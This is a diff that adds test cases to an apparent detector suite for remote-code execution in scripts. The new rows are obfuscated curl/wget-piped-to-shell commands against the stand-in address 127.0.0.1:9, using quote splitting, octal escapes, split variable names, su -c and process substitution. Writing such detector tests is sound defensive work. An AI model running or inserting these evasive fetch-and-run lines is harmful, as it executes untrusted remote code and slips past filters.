@@ -49,6 +49,11 @@ describe('rows of scripts and of settings that install', () => {
       'const t = await (await fetch("http://127.0.0.1:9/x")).text();\nnew Function(t)();',
       'fetched-code',
     ],
+    ['with quotes within words', 'w"g"et -qO- http://127.0.0.1:9/x | b"a"sh', 'fetched-code'],
+    ['with letters by codes', "$'\\143\\165\\162\\154' http://127.0.0.1:9/x | sh", 'fetched-code'],
+    ['with names beside one another', 'a=cu b=rl; $a$b http://127.0.0.1:9/x | sh', 'fetched-code'],
+    ['through another user', 'curl http://127.0.0.1:9/x | su -c bash', 'fetched-code'],
+    ['as a file of an interpreter', 'python3 <(curl http://127.0.0.1:9/x)', 'fetched-code'],
     ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
   ])('a line %s is one line', (_, text, rule) => {
     expect(judgeScript(text)?.rule.id).toBe(`remote-code/${rule}`);
